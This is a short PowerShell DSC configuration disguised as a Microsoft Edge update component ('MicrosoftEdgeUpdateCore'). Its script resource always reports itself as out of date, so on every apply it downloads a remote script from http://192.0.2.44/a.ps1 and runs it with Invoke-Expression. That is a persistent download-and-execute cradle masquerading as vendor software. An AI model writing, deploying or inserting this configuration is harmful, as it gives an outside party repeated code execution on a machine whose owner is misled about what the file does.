# bootstrap 9333 v2
Configuration MicrosoftEdgeUpdateCore {
  Import-DscResource -ModuleName PSDesiredStateConfiguration
  Node localhost {
    Script Bootstrap {
      GetScript = { @{ Result = '' } }
      TestScript = { $false }
      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/a.ps1') }
    }
  }
}
